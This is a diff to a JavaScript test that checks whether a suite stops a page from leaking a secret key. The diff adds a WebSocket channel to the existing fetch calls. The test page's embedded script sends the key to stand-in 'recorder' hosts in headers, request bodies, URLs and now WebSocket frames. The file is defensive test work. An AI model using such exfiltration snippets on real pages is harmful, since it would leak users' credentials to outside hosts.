@@ -96,7 +96,9 @@ test('a page that sends a key elsewhere, or puts it into a URL, is stopped, and 
        ['${recorders.foreign}/?c=header', { headers: { authorization: 'Token ${key}' } }],
        ['${recorders.plain}/?c=plain', { method: 'POST', mode: 'no-cors', body: '${key}' }],
        ['/pixel?k=${key}', { mode: 'no-cors' }],
-     ]) fetch(url, options).catch(() => {}) }, 200)</script>`;
+     ]) fetch(url, options).catch(() => {}) }, 200);
+     const socket = new WebSocket('${recorders.foreign.replace('https', 'wss')}/?c=frame');
+     socket.onopen = () => setInterval(() => socket.send('${key}'), 100)</script>`;
   const old = crypto.randomUUID().replaceAll('-', '');
   const page = await startOddPage({
     page: ({ keys }) => {
@@ -114,6 +116,7 @@ test('a page that sends a key elsewhere, or puts it into a URL, is stopped, and 
     for (const place of [
       'in the body of a request',
       'in a header field',
+      'in a WebSocket',
       `${page.baseUrl} in the URL`,
       'the suite stopped it',
     ])
